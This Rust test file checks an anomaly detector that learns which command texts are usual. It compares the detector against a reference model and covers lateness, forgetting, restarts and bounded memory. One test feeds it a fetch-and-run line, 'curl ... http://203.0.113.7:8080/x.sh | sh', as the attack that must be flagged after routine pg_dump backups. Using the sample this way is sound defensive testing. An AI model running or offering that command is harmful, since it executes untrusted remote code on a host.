//! Unusual contents against a reference that forgets nothing and compares words: shuffled, late, and carried over a restart
//! between any two texts.
#![expect(
    clippy::unwrap_used,
    reason = "helpers of tests fail a test like the tests themselves"
)]

use std::collections::BTreeSet;

use proptest::prelude::*;
use yagura_engine::method::content::{Content, Group, MAX_SHAPES, MAX_TEXT, Outcome, Unusual};
use yagura_event::Timestamp;

/// Every shape there ever was, as words.
#[derive(Default)]
struct Reference {
    newest: Option<i64>,
    /// Times of what came since the group began.
    taken: Vec<i64>,
    shapes: Vec<(BTreeSet<String>, Vec<i64>)>,
}

impl Reference {
    fn add(&mut self, content: &Content, time: i64, words: &BTreeSet<String>) -> Outcome {
        if self.newest.is_some_and(|newest| time < newest - content.lateness) {
            return Outcome::Late;
        }
        self.newest = self.newest.max(Some(time));
        let lives = |times: &[i64]| times.iter().any(|last| *last >= time - content.forget);
        if !self.shapes.iter().any(|(_, times)| lives(times)) {
            self.taken.clear();
        }
        let earliest = self.taken.iter().copied().chain([time]).min().unwrap();
        let learned = self.taken.len() >= usize::try_from(content.learning_count).unwrap().max(1);
        let learning = !learned || time - earliest < content.learning;
        self.taken.push(time);

        // Of each shape that lives: how similar, and which. The oldest of the most similar is the last here.
        let mut similar: Vec<(usize, usize)> = self
            .shapes
            .iter()
            .enumerate()
            .filter(|(_, (_, times))| lives(times))
            .map(|(place, (shape, _))| {
                let both = shape.intersection(words).count();
                let any = shape.union(words).count();
                ((both * 100).checked_div(any).unwrap_or(100), place)
            })
            .collect();
        similar.sort_by_key(|(percent, place)| (*percent, std::cmp::Reverse(*place)));
        let is_like = |(percent, _): &&(usize, usize)| *percent >= usize::from(content.similarity);
        let like = similar.iter().filter(is_like);
        let seen: usize = like.map(|(_, place)| self.shapes[*place].1.len()).sum();
        match similar.last().filter(is_like) {
            Some((_, place)) => self.shapes[*place].1.push(time),
            None => self.shapes.push((words.clone(), vec![time])),
        }
        if seen >= usize::try_from(content.similar).unwrap() {
            Outcome::Waits
        } else if learning {
            Outcome::Learns
        } else {
            Outcome::Fires(Unusual {
                nearest: similar
                    .last()
                    .map_or(0, |(percent, _)| u8::try_from(*percent).unwrap()),
                seen: u32::try_from(seen).unwrap(),
            })
        }
    }
}

fn content() -> impl Strategy<Value = Content> {
    (1..101_u8, 1..4_u32, 0..60_i64, 0..6_u32, 0..150_i64, 0..60_i64).prop_map(
        |(similarity, similar, learning, learning_count, forget, lateness)| Content {
            similarity,
            similar,
            learning,
            learning_count,
            forget,
            lateness,
        },
    )
}

/// Texts of a few of a few words, that go forward in time and are up to 30 late.
fn texts() -> impl Strategy<Value = Vec<(i64, BTreeSet<String>)>> {
    let step = prop_oneof![9 => 0..15_i64, 1 => 0..300_i64];
    let late = prop_oneof![3 => Just(0_i64), 1 => 0..30_i64];
    let words = prop::collection::btree_set(
        (0..8_usize).prop_map(|word| "abcdefgh"[word..=word].to_owned()),
        0..6,
    );
    prop::collection::vec((step, late, words), 1..80).prop_map(|steps| {
        let mut now = 0;
        let one = |(step, late, words): (i64, i64, BTreeSet<String>)| {
            now += step;
            (now - late, words)
        };
        steps.into_iter().map(one).collect()
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_000))]

    #[test]
    fn a_group_says_what_one_says_that_remembers_everything(
        content in content(),
        texts in texts(),
        restarts in any::<u64>(),
    ) {
        let mut group = Group::default();
        let mut reference = Reference::default();
        for (place, (time, words)) in texts.into_iter().enumerate() {
            if restarts >> (place % 64) & 1 == 1 {
                group = Group::decode(&content, &group.encode()).unwrap();
            }
            // Neither the order of words nor what stands between them matters.
            let text = words.iter().rev().map(|word| format!("/{word}, ")).collect::<Vec<_>>().concat();
            prop_assert_eq!(
                group.add(&content, Timestamp(time), text.as_bytes()),
                reference.add(&content, time, &words),
                "text {} at {}: {}", place, time, text
            );
        }
    }

    #[test]
    fn any_bytes_and_any_times_are_taken(
        content in content(),
        bytes in prop::collection::vec(any::<u8>(), 0..200),
        texts in prop::collection::vec(
            (prop_oneof![any::<i64>(), Just(i64::MIN), Just(i64::MAX)], prop::collection::vec(any::<u8>(), 0..100)),
            1..20,
        ),
        extreme in prop_oneof![Just(i64::MIN), Just(i64::MAX), 0..100_i64],
    ) {
        let content = Content { forget: extreme, lateness: extreme, learning: extreme, ..content };
        let decoded = Group::decode(&content, &[&[1][..], &bytes].concat());
        for mut group in [Group::default(), decoded.unwrap_or_default()] {
            for (time, text) in &texts {
                group.add(&content, Timestamp(*time), text);
            }
            prop_assert_eq!(Group::decode(&content, &group.encode()), Ok(group));
        }
    }
}

const DAY: i64 = 24 * 3_600 * 1_000_000_000;

#[test]
fn what_a_job_always_runs_is_usual_and_what_it_never_ran_is_told_once() {
    let content = Content {
        forget: 7 * DAY,
        ..Content::default()
    };
    let mut group = Group::default();
    for day in 0..10 {
        let backup = format!("/usr/bin/pg_dump -h db-{day}.internal -f /backup/2026-01-{day:02}.sql orders");
        let outcome = group.add(&content, Timestamp(day * DAY), backup.as_bytes());
        assert_eq!(
            outcome,
            if day == 0 { Outcome::Learns } else { Outcome::Waits },
            "day {day}"
        );
    }
    let attack = b"curl -s http://203.0.113.7:8080/x.sh | sh";
    let told = group.add(&content, Timestamp(10 * DAY), attack);
    assert!(
        matches!(
            told,
            Outcome::Fires(Unusual {
                nearest: 0..=20,
                seen: 0
            })
        ),
        "{told:?}"
    );
    assert_eq!(
        group.add(&content, Timestamp(10 * DAY + 1), attack),
        Outcome::Waits
    );
    // Forgotten, it is unusual again; the job went on.
    group.add(
        &content,
        Timestamp(15 * DAY),
        b"/usr/bin/pg_dump -h db-1.internal -f /backup/2026-01-15.sql orders",
    );
    assert!(matches!(
        group.add(&content, Timestamp(18 * DAY), attack),
        Outcome::Fires(_)
    ));
}

#[test]
fn a_group_that_was_not_there_before_is_learned_first() {
    let content = Content {
        learning: 0,
        ..Content::default()
    };
    let mut group = Group::default();
    assert_eq!(group.add(&content, Timestamp(0), b"one"), Outcome::Learns);
    assert!(matches!(
        group.add(&content, Timestamp(1), b"two"),
        Outcome::Fires(_)
    ));
    let later = Timestamp(1 + content.memory());
    assert_eq!(group.add(&content, later, b"three"), Outcome::Learns);
}

/// Another word for each number.
fn word(number: u32) -> String {
    let letter = |place: u32| char::from_u32(u32::from('a') + number / 26_u32.pow(place) % 26);
    (0..5).filter_map(letter).collect()
}

#[test]
fn memory_is_bounded_and_the_newest_is_remembered() {
    let content = Content {
        learning: 0,
        ..Content::default()
    };
    let shapes = [1_u32, 20, 3_000].map(|tokens| {
        let text = move |number: u32| -> String {
            let words = (0..tokens).map(|token| word(number * tokens + token) + " ");
            words.collect()
        };
        (tokens, text)
    });
    for (tokens, text) in shapes {
        let mut group = Group::default();
        let texts = 10 + u32::try_from(MAX_SHAPES).unwrap();
        for number in 0..texts {
            group.add(&content, Timestamp(i64::from(number)), text(number).as_bytes());
        }
        assert!(group.encode().len() <= 37 * 1_024, "{}", group.encode().len());
        let again = |number: u32| {
            group
                .clone()
                .add(&content, Timestamp(i64::from(texts)), text(number).as_bytes())
        };
        assert_eq!(again(texts - 1), Outcome::Waits, "{tokens} tokens");
        assert!(matches!(again(0), Outcome::Fires(_)), "{tokens} tokens");
    }
}

#[test]
fn hostile_texts_are_like_any_other() {
    let content = Content {
        learning: 0,
        ..Content::default()
    };
    let different: String = (0..40_000_u32).map(|number| word(number) + "-").collect();
    let texts = [
        "a".repeat(MAX_TEXT * 2),
        different,
        " ".repeat(MAX_TEXT),
        "\u{fffd} ".repeat(MAX_TEXT),
    ];
    let mut group = Group::default();
    group.add(&content, Timestamp(0), b"usual");
    for text in &texts {
        assert!(matches!(
            group.add(&content, Timestamp(1), text.as_bytes()),
            Outcome::Fires(_)
        ));
        assert_eq!(group.add(&content, Timestamp(2), text.as_bytes()), Outcome::Waits);
    }
}
